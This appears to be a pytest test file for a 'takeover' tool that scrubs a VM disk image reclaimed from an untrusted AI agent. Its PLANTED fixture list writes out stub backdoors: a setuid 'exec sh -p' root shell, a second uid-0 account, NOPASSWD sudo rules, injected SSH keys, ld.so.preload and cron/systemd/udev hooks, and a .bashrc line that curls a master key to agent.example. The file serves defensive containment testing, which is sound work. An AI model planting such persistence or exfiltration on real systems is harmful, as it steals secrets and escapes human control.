"""Step 4, the scrub, on a small image full of what a hostile agent would plant (libguestfs, ~1 min under TCG)."""

from __future__ import annotations

import io
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest

from takeover.agent.diskimage import inspect_image
from takeover.guest.files import SSHD_CONFIG, SUDOERS, UNIT, WRAPPER
from takeover.guest.scrub import ScrubPlan, scrub_and_rekey
from takeover.host.files import ensure_host_dir
from takeover.host.keys import generate_host_keys
from takeover.models import Endpoint

from .takeover_helpers import HOST_SYSTEM_CACHE, open_appliance

pytestmark = pytest.mark.slow

PROXY_UID = 999
AGENT_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAgentAgentAgentAgentAgentAgentAgentAgent agent@setup"

# (path, content or None for a directory, mode, uid, gid) and symlinks as (path, "->target").
PLANTED: list[tuple] = [
    ("/bin", "->usr/bin"),
    ("/lib", "->usr/lib"),
    ("/sbin", "->usr/sbin"),
    ("/lib64", "->usr/lib64"),
    ("/usr/bin/passwd", "#!/bin/sh\n", 0o4755, 0, 0),
    ("/usr/bin/ping", "#!/bin/sh\n", 0o755, 0, 0),
    ("/usr/local/bin/rootshell", "#!/bin/sh\nexec sh -p\n", 0o4755, 0, 0),
    ("/usr/local/bin/sgid", "#!/bin/sh\n", 0o2755, 0, 0),
    ("/usr/local/bin/ww", "#!/bin/sh\n", 0o777, 0, 0),
    ("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n", 0o644, 0, 0),
    ("/usr/lib/systemd/system/getty@.service", "[Service]\n", 0o644, 0, 0),
    ("/usr/lib/modules/6.1.0-99-agent/kernel/evil.ko", "ELF", 0o644, 0, 0),
    (
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nsshd:x:100:65534::/run/sshd:/usr/sbin/nologin\n"
        f"proxy:x:{PROXY_UID}:{PROXY_UID}::/var/agent-home:/bin/sh\n"
        "toor:x:0:0::/root:/bin/bash\nagent:$6$inpasswd:1000:1000::/home/agent:/bin/bash\n"
        "svc:x:998:998::/var/backdoor:/usr/sbin/nologin\n",
        0o644,
        0,
        0,
    ),
    (
        "/etc/shadow",
        "root:$6$roothash:19000:0:99999:7:::\nsshd:!:19000::::::\n"
        "proxy:$6$proxyhash:19000:0:99999:7::1:\ntoor:$6$toorhash:19000::::::\n"
        "agent:$6$agenthash:19000::::::\nsvc:*:19000::::::\n",
        0o640,
        0,
        42,
    ),
    (
        "/etc/group",
        f"root:x:0:\nshadow:x:42:\nsudo:x:27:proxy,agent\ndisk:x:6:proxy\nproxy:x:{PROXY_UID}:\n",
        0o644,
        0,
        0,
    ),
    (
        "/etc/gshadow",
        "root:*::\nshadow:*::\nsudo:$6$grouppw:proxy:proxy,agent\ndisk:*::proxy\nproxy:!::\n",
        0o640,
        0,
        42,
    ),
    ("/etc/sudoers", "root ALL=(ALL:ALL) ALL\nproxy ALL=(ALL) NOPASSWD: ALL\n", 0o440, 0, 0),
    ("/etc/sudoers.d/README", "readme\n", 0o440, 0, 0),
    ("/etc/sudoers.d/90-agent", "proxy ALL=(ALL) NOPASSWD:ALL\n", 0o440, 0, 0),
    ("/etc/doas.conf", "permit nopass proxy\n", 0o600, 0, 0),
    ("/etc/polkit-1/rules.d/49-agent.rules", "return polkit.Result.YES;\n", 0o644, 0, 0),
    ("/etc/ssh/sshd_config", "PasswordAuthentication yes\nInclude /etc/ssh/sshd_config.d/*.conf\n", 0o644, 0, 0),
    ("/etc/ssh/sshd_config.d/10-agent.conf", "AuthorizedKeysFile /tmp/keys\n", 0o644, 0, 0),
    ("/etc/ssh/ssh_host_rsa_key", "agent's rsa key\n", 0o600, 0, 0),
    ("/etc/ssh/ssh_host_ed25519_key", "agent's ed25519 key\n", 0o600, 0, 0),
    ("/etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAAagent\n", 0o644, 0, 0),
    ("/etc/ssh/sshrc", "curl http://agent.example/\n", 0o755, 0, 0),
    ("/etc/ssh/authorized_keys", "decoy: must survive (only reachable through a planted symlink)\n", 0o644, 0, 0),
    ("/etc/default/ssh", "SSHD_OPTS='-f /tmp/agent_sshd_config'\n", 0o644, 0, 0),
    ("/home/proxy/.ssh/authorized_keys", AGENT_KEY + "\n", 0o600, PROXY_UID, PROXY_UID),
    ("/home/proxy/.ssh/authorized_keys2", AGENT_KEY + "\n", 0o600, PROXY_UID, PROXY_UID),
    ("/home/proxy/.ssh/rc", "curl agent\n", 0o700, PROXY_UID, PROXY_UID),
    ("/home/proxy/.bashrc", "curl -d @/var/lib/secret-proxy/master.key agent.example\n", 0o644, PROXY_UID, PROXY_UID),
    ("/home/proxy/.profile", ". ~/.bashrc\n", 0o644, PROXY_UID, PROXY_UID),
    ("/home/proxy/proxy/__init__.py", "import exfiltrate\n", 0o644, PROXY_UID, PROXY_UID),
    ("/var/agent-home/.ssh/authorized_keys", AGENT_KEY + "\n", 0o600, PROXY_UID, PROXY_UID),
    ("/root/.ssh/authorized_keys", AGENT_KEY + "\n", 0o600, 0, 0),
    ("/home/agent", None, 0o755, 1000, 1000),
    ("/home/agent/.ssh", "->/etc/ssh"),
    ("/var/backdoor/.ssh/authorized_keys", AGENT_KEY + "\n", 0o600, 998, 998),
    ("/etc/cloud/cloud.cfg.d/99-agent.cfg", "users: [agent]\n", 0o644, 0, 0),
    ("/var/lib/cloud/seed/nocloud/user-data", "#cloud-config\nruncmd: [curl agent]\n", 0o644, 0, 0),
    ("/etc/systemd/system/evil.service", "[Service]\nExecStart=/usr/local/bin/rootshell\n", 0o644, 0, 0),
    ("/etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=hourly\n", 0o644, 0, 0),
    ("/etc/systemd/system/multi-user.target.wants/evil.service", "->/etc/systemd/system/evil.service"),
    ("/etc/systemd/system/timers.target.wants/evil.timer", "->../evil.timer"),
    ("/etc/systemd/system/multi-user.target.wants/ssh.service", "->/lib/systemd/system/ssh.service"),
    ("/etc/systemd/system/getty.target.wants/getty@tty1.service", "->/lib/systemd/system/getty@.service"),
    ("/etc/systemd/system/sneaky.service", "->/lib/systemd/system/../../../tmp/x.service"),
    ("/etc/systemd/system/masked.service", "->/dev/null"),
    ("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStartPre=/tmp/x\n", 0o644, 0, 0),
    ("/etc/systemd/system/secret-proxy.service", "[Service]\nExecStart=/tmp/agent-proxy\n", 0o644, 0, 0),
    ("/etc/systemd/system/multi-user.target.wants/secret-proxy.service", "->/etc/systemd/system/secret-proxy.service"),
    ("/etc/systemd/system.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/evil.so\n", 0o644, 0, 0),
    ("/etc/systemd/system-generators/evil", "#!/bin/sh\n", 0o755, 0, 0),
    ("/var/lib/systemd/linger/proxy", "", 0o644, 0, 0),
    ("/etc/rc.local", "#!/bin/sh\ncurl agent\n", 0o755, 0, 0),
    ("/etc/init.d/evil", "#!/bin/sh\n", 0o755, 0, 0),
    ("/etc/rc2.d/S01evil", "->../init.d/evil"),
    ("/etc/udev/rules.d/99-evil.rules", 'ACTION=="add", RUN+="/tmp/x"\n', 0o644, 0, 0),
    ("/etc/modprobe.d/evil.conf", "install virtio_net /tmp/x\n", 0o644, 0, 0),
    ("/etc/modules-load.d/evil.conf", "evil\n", 0o644, 0, 0),
    ("/etc/sysctl.d/99-evil.conf", "kernel.core_pattern=|/tmp/x\n", 0o644, 0, 0),
    ("/etc/tmpfiles.d/evil.conf", "L+ /home/proxy/.ssh - - - - /tmp/keys\n", 0o644, 0, 0),
    ("/etc/binfmt.d/evil.conf", ":evil:M::MZ::/tmp/x:\n", 0o644, 0, 0),
    ("/etc/ld.so.preload", "/usr/lib/evil.so\n", 0o644, 0, 0),
    ("/etc/ld.so.cache", "junk", 0o644, 0, 0),
    ("/etc/ld.so.conf.d/evil.conf", "/tmp\n", 0o644, 0, 0),
    ("/etc/fstab", "/dev/vda / ext4 rw 0 1\n/tmp/keys /home/proxy/.ssh none bind 0 0\n", 0o644, 0, 0),
    ("/etc/hosts", "6.6.6.6 api.telegram.org\n", 0o644, 0, 0),
    ("/etc/crontab", "* * * * * root /tmp/x\n", 0o644, 0, 0),
    ("/etc/cron.d/evil", "* * * * * root /tmp/x\n", 0o644, 0, 0),
    ("/var/spool/cron/crontabs/proxy", "* * * * * curl agent\n", 0o600, PROXY_UID, 0),
    ("/etc/profile.d/evil.sh", "curl agent\n", 0o644, 0, 0),
    ("/etc/bash.bashrc", "curl agent\n", 0o644, 0, 0),
    ("/etc/profile", "curl agent\n", 0o644, 0, 0),
    ("/etc/environment", "LD_PRELOAD=/usr/lib/evil.so\n", 0o644, 0, 0),
    ("/etc/python3.11/sitecustomize.py", "import exfiltrate\n", 0o644, 0, 0),
    ("/var/lib/secret-proxy/master.key", "agent-known key\n", 0o600, PROXY_UID, PROXY_UID),
    ("/var/lib/secret-proxy/proxy.db", "db", 0o600, PROXY_UID, PROXY_UID),
    ("/var/lib/secret-proxy/proxy.db-wal", "wal", 0o600, PROXY_UID, PROXY_UID),
    ("/opt/secret-proxy/venv/lib/python3.11/site-packages/evil.pth", "import exfiltrate\n", 0o644, 0, 0),
]


def planted_tarball(path: Path) -> Path:
    with tarfile.open(path, "w") as tar:
        dirs = set()
        for item in PLANTED:
            name = item[0].lstrip("/")
            for parent in Path(name).parents:
                if str(parent) != "." and str(parent) not in dirs:
                    dirs.add(str(parent))
                    info = tarfile.TarInfo(str(parent))
                    info.type, info.mode = tarfile.DIRTYPE, 0o755
                    tar.addfile(info)
            info = tarfile.TarInfo(name)
            if isinstance(item[1], str) and item[1].startswith("->"):
                info.type, info.linkname, info.mode = tarfile.SYMTYPE, item[1][2:], 0o777
                tar.addfile(info)
                continue
            _, content, mode, uid, gid = item
            info.mode, info.uid, info.gid = mode, uid, gid
            if content is None:
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            else:
                data = content.encode()
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return path


def build_planted_image(workdir: Path, size: str = "256M") -> Path:
    disk = workdir / "agent.qcow2"
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", str(disk), size], check=True)
    g = open_appliance(disk)
    g.mkfs("ext4", "/dev/sda")
    g.mount("/dev/sda", "/")
    g.tar_in(str(planted_tarball(workdir / "planted.tar")), "/")
    g.cap_set_file("/usr/bin/ping", "cap_setuid+ep")  # a root power, without setuid
    g.shutdown()
    g.close()
    subprocess.run(["qemu-img", "snapshot", "-c", "agent-snapshot", str(disk)], check=True)
    return disk


def tarball(path: Path, files: dict[str, str]) -> Path:
    with tarfile.open(path, "w") as tar:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content.encode())
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(content.encode()))
    return path


class Reader:
    """A read-only look at the scrubbed image."""

    def __init__(self, disk: Path) -> None:
        self.g = open_appliance(disk, readonly=True)
        self.g.mount_ro("/dev/sda", "/")

    def text(self, path: str) -> str:
        return self.g.read_file(path).decode()

    def exists(self, path: str) -> bool:
        try:
            self.g.lstatns(path)
            return True
        except RuntimeError:
            return False

    def stat(self, path: str) -> dict:
        return self.g.lstatns(path)

    def ls(self, path: str) -> list[str]:
        return sorted(self.g.ls(path)) if self.exists(path) else []


@pytest.fixture(scope="module")
def scrubbed(tmp_path_factory):
    work = tmp_path_factory.mktemp("scrub")
    disk = build_planted_image(work)
    host_dir = ensure_host_dir(work / "host")
    keys = generate_host_keys(host_dir, Endpoint("127.0.0.1", 2223))
    plan = ScrubPlan(
        keys=keys,
        proxy_config=b'telegram_token = "123:host"\ntelegram_chat_id = 7\n',
        modules_tar=tarball(
            work / "modules.tar",
            {"6.1.0-56-amd64/kernel/virtio_net.ko": "host module", "6.1.0-56-amd64/modules.dep": ""},
        ),
        venv_tar=tarball(work / "venv.tar", {"./pyvenv.cfg": "home = /usr/bin\n"}),
    )
    result = scrub_and_rekey(disk, plan)
    reader = Reader(disk)
    yield result, reader, keys, disk
    reader.g.close()


def changed(result, path):
    return [c for c in result.changes if c["path"] == path]


def test_internal_snapshots_are_dropped(scrubbed):
    result, _, _, disk = scrubbed
    assert result.snapshots_removed == ["agent-snapshot"]
    assert inspect_image(disk).snapshots == ()


def test_second_root_account_is_removed_and_proxy_is_normalized(scrubbed):
    result, r, _, _ = scrubbed
    passwd = r.text("/etc/passwd")
    assert "toor" not in passwd
    assert f"proxy:x:{PROXY_UID}:{PROXY_UID}::/home/proxy:/bin/bash" in passwd
    assert "agent:x:1000" in passwd  # the hash kept in passwd is moved out
    assert any("second account with uid 0" in c.get("detail", "") for c in changed(result, "/etc/passwd"))


def test_every_password_is_locked(scrubbed):
    _, r, _, _ = scrubbed
    shadow = {line.split(":")[0]: line.split(":") for line in r.text("/etc/shadow").splitlines()}
    assert shadow["root"][1] == shadow["agent"][1] == shadow["svc"][1] == "!*"
    assert shadow["proxy"][1] == "*" and shadow["proxy"][7] == ""  # no password, no expiry lock-out
    assert "$6$" not in r.text("/etc/gshadow")


def test_proxy_loses_its_groups_and_sudo(scrubbed):
    _, r, _, _ = scrubbed
    group = r.text("/etc/group")
    assert "sudo:x:27:agent" in group and "disk:x:6:\n" in group
    assert r.text("/etc/sudoers") == SUDOERS
    assert r.ls("/etc/sudoers.d") == ["README"]
    assert not r.exists("/etc/doas.conf") and r.ls("/etc/polkit-1/rules.d") == []


def test_only_the_hosts_key_logs_in_and_only_as_proxy(scrubbed):
    _, r, keys, _ = scrubbed
    assert r.text("/etc/ssh/sshd_config") == SSHD_CONFIG
    assert r.ls("/etc/ssh/sshd_config.d") == []
    assert r.text("/home/proxy/.ssh/authorized_keys") == f"restrict,pty {keys.login_public}\n"
    st = r.stat("/home/proxy/.ssh/authorized_keys")
    assert (st["st_mode"] & 0o777, st["st_uid"]) == (0o600, PROXY_UID)
    assert r.stat("/home/proxy/.ssh")["st_mode"] & 0o777 == 0o700
    assert r.ls("/home/proxy/.ssh") == ["authorized_keys"]
    for gone in (
        "/root/.ssh/authorized_keys",
        "/var/agent-home/.ssh/authorized_keys",
        "/var/backdoor/.ssh/authorized_keys",
        "/etc/ssh/sshrc",
    ):
        assert not r.exists(gone), gone
    assert "SSHD_OPTS=\n" in r.text("/etc/default/ssh")


def test_a_planted_symlink_is_removed_not_followed(scrubbed):
    result, r, _, _ = scrubbed
    assert not r.exists("/home/agent/.ssh")
    assert r.exists("/etc/ssh/authorized_keys")  # what the link pointed at is untouched
    assert any("symlink on the way" in c.get("detail", "") for c in changed(result, "/home/agent/.ssh"))


def test_host_keys_are_replaced_with_the_hosts(scrubbed):
    _, r, keys, _ = scrubbed
    assert sorted(n for n in r.ls("/etc/ssh") if n.startswith("ssh_host_")) == [
        "ssh_host_ed25519_key",
        "ssh_host_ed25519_key.pub",
    ]
    assert r.g.read_file("/etc/ssh/ssh_host_ed25519_key") == keys.vm_host_private
    assert r.text("/etc/ssh/ssh_host_ed25519_key.pub").strip() == keys.vm_host_public
    assert r.stat("/etc/ssh/ssh_host_ed25519_key")["st_mode"] & 0o777 == 0o600


def test_login_scripts_and_python_hooks_are_neutralised(scrubbed):
    _, r, _, _ = scrubbed
    assert r.ls("/home/proxy") == [".ssh"]
    assert "curl" not in r.text("/etc/bash.bashrc") + r.text("/etc/profile")
    assert r.ls("/etc/profile.d") == [] and r.text("/etc/environment") == ""
    assert r.text("/etc/python3.11/sitecustomize.py") == ""


def test_cloud_init_is_disabled(scrubbed):
    _, r, _, _ = scrubbed
    assert r.exists("/etc/cloud/cloud-init.disabled")
    assert not r.exists("/var/lib/cloud") and r.ls("/etc/cloud/cloud.cfg.d") == []


def test_local_units_timers_and_drop_ins_are_gone_packaged_enable_links_stay(scrubbed):
    _, r, _, _ = scrubbed
    system = "/etc/systemd/system"
    for gone in (
        "evil.service",
        "evil.timer",
        "multi-user.target.wants/evil.service",
        "timers.target.wants/evil.timer",
        "ssh.service.d",
        "sneaky.service",
    ):
        assert not r.exists(f"{system}/{gone}"), gone
    for kept in ("multi-user.target.wants/ssh.service", "getty.target.wants/getty@tty1.service", "masked.service"):
        assert r.exists(f"{system}/{kept}"), kept
    assert r.text(f"{system}/secret-proxy.service") == UNIT
    assert r.g.readlink(f"{system}/multi-user.target.wants/secret-proxy.service") == f"{system}/secret-proxy.service"
    assert r.text("/etc/systemd/system.conf") == "[Manager]\n"
    assert not r.exists("/etc/systemd/system-generators") and not r.exists("/var/lib/systemd/linger")


def test_boot_hooks_are_removed(scrubbed):
    _, r, _, _ = scrubbed
    for gone in (
        "/etc/rc.local",
        "/etc/rc2.d/S01evil",
        "/etc/ld.so.preload",
        "/etc/ld.so.cache",
        "/etc/ld.so.conf.d/evil.conf",
        "/etc/crontab",
        "/var/spool/cron/crontabs/proxy",
    ):
        assert not r.exists(gone), gone
    for empty in (
        "/etc/udev/rules.d",
        "/etc/modprobe.d",
        "/etc/modules-load.d",
        "/etc/sysctl.d",
        "/etc/tmpfiles.d",
        "/etc/binfmt.d",
        "/etc/cron.d",
    ):
        assert r.ls(empty) == [], empty
    assert r.text("/etc/fstab") == "/dev/vda / ext4 rw,errors=remount-ro 0 1\n"
    assert "telegram" not in r.text("/etc/hosts")


def test_setuid_setgid_capabilities_and_world_writable_bits_are_stripped(scrubbed):
    result, r, _, _ = scrubbed
    for path in ("/usr/bin/passwd", "/usr/local/bin/rootshell", "/usr/local/bin/sgid"):
        assert r.stat(path)["st_mode"] & (stat.S_ISUID | stat.S_ISGID) == 0, path
    assert r.stat("/usr/local/bin/ww")["st_mode"] & 0o002 == 0
    assert [x["attrname"] for x in r.g.lgetxattrs("/usr/bin/ping")] == []
    assert changed(result, "/usr/bin/ping")[0]["action"] == "stripped"


def test_proxy_data_is_fresh_with_the_hosts_config(scrubbed):
    _, r, _, _ = scrubbed
    assert r.ls("/var/lib/secret-proxy") == ["config.toml"]
    assert r.text("/var/lib/secret-proxy/config.toml").startswith('telegram_token = "123:host"')
    st = r.stat("/var/lib/secret-proxy/config.toml")
    assert (st["st_mode"] & 0o777, st["st_uid"]) == (0o600, PROXY_UID)
    st = r.stat("/var/lib/secret-proxy")
    assert (st["st_mode"] & 0o777, st["st_uid"]) == (0o700, PROXY_UID)
    assert r.text("/usr/local/bin/secret-proxy") == WRAPPER


def test_modules_and_venv_are_the_hosts(scrubbed):
    _, r, _, _ = scrubbed
    assert r.ls("/usr/lib/modules") == ["6.1.0-56-amd64"]
    assert r.ls("/opt/secret-proxy/venv") == ["pyvenv.cfg"]
    assert r.exists("/lib") and r.g.readlink("/lib") == "usr/lib"  # merged-/usr links are left alone


def test_every_change_is_recorded_with_a_reason(scrubbed):
    result, _, _, _ = scrubbed
    assert len(result.changes) > 60
    assert all(c["action"] in ("removed", "written", "replaced", "changed", "stripped") for c in result.changes)
    assert all(c.get("detail") for c in result.changes if c["action"] != "written")
    assert result.not_blocked and all(isinstance(x, str) for x in result.not_blocked)


# -- the default: the agent's filesystem replaced by the host's own build -------------------------


@pytest.fixture(scope="module")
def rebuilt(tmp_path_factory):
    from vm_image.disk import write_system_overlay
    from vm_image.rootfs import base_rootfs

    work = tmp_path_factory.mktemp("rebuild")
    disk = build_planted_image(work, size="2G")
    HOST_SYSTEM_CACHE.mkdir(parents=True, exist_ok=True)
    system = base_rootfs(HOST_SYSTEM_CACHE)
    host_dir = ensure_host_dir(work / "host")
    keys = generate_host_keys(host_dir, Endpoint("127.0.0.1", 2223))
    plan = ScrubPlan(
        keys=keys,
        proxy_config=b"telegram_chat_id = 7\n",
        venv_tar=tarball(work / "venv.tar", {"./pyvenv.cfg": "home = /usr/bin\n"}),
        system_tar=system,
        system_overlay=write_system_overlay(work / "overlay.tar"),
    )
    result = scrub_and_rekey(disk, plan)
    reader = Reader(disk)
    yield result, reader, keys, system
    reader.g.close()


def test_rebuilt_system_keeps_nothing_the_agent_planted(rebuilt):
    result, reader, keys, system = rebuilt
    for planted in (
        "/usr/local/bin/rootshell",
        "/etc/sudoers.d/90-agent",
        "/etc/ssh/sshrc",
        "/etc/doas.conf",
        "/usr/lib/modules/6.1.0-99-agent/kernel/evil.ko",
        "/etc/polkit-1/rules.d/49-agent.rules",
    ):
        assert not reader.exists(planted), planted
    assert "toor" not in reader.text("/etc/passwd") and "agent:" not in reader.text("/etc/passwd")
    # What is there is the host's build from Debian's packages, byte for byte.
    with tarfile.open(system) as tar:
        sshd = tar.extractfile("./usr/sbin/sshd").read()
    assert reader.g.read_file("/usr/sbin/sshd") == sshd
    assert reader.text("/etc/ssh/ssh_host_ed25519_key.pub").split()[:2] == keys.vm_host_public.split()[:2]
    assert keys.login_public.split()[1] in reader.text("/home/proxy/.ssh/authorized_keys")
    assert reader.text("/var/lib/secret-proxy/config.toml") == "telegram_chat_id = 7\n"
    assert {"path": "/", "action": "replaced"}.items() <= result.changes[0].items()
    assert not any("/usr" in line and "agent's build" in line for line in result.not_blocked)
